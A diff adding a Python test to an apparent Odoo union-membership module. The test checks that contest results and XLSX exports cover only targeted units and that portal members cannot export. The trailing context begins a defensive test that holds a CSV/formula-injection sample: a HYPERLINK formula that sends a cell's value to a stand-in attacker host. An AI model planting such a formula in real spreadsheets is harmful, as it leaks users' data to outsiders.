@@ -97,6 +97,26 @@ class TestContest(EmulationCommon):
         self.assertEqual(unit_rows[self.unit_b.name][2], 1)
         self.assertEqual(unit_rows[self.unit_b.name][3], 100)
 
+    def test_results_list_only_the_units_covered(self):
+        """Audit: a member of a unit the movement does not cover who reached the questionnaire is
+        neither listed nor counted in the results, and a member cannot export the results."""
+        self.movement.target_organization_ids = [(6, 0, self.unit_a.ids)]
+        portal_b1 = self.env["res.users"].create({
+            "login": "t_portal_b1_out", "name": self.member_b1.name, "partner_id": self.member_b1.partner_id.id,
+            "groups_id": [(6, 0, [self.env.ref("base.group_portal").id,
+                                  self.env.ref("union_membership.group_union_member").id])]})
+        self._attempt(self.user_portal_a1, self.right)
+        self._attempt(portal_b1, self.right)
+        members, units = self.contest._get_result_rows()
+        self.assertEqual([row["member"] for row in members], [self.member_a1.name])
+        self.assertNotIn(self.unit_b.name, [row["unit"] for row in units])
+        self.assertEqual(self.contest.participant_count, 1)
+        book = openpyxl.load_workbook(io.BytesIO(self.contest._get_xlsx()))
+        self.assertNotIn(self.member_b1.name, [row[1] for row in book.worksheets[0].iter_rows(values_only=True)])
+        for user in (self.user_portal_a1, portal_b1):
+            with self.assertRaises(AccessError):
+                self.contest.with_user(user).action_export_xlsx()
+
     def test_xlsx_keeps_user_text_as_text(self):
         """Issue 13 #9: a name starting with =, +, - or @ is written as text, not as a formula."""
         formula = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem")'
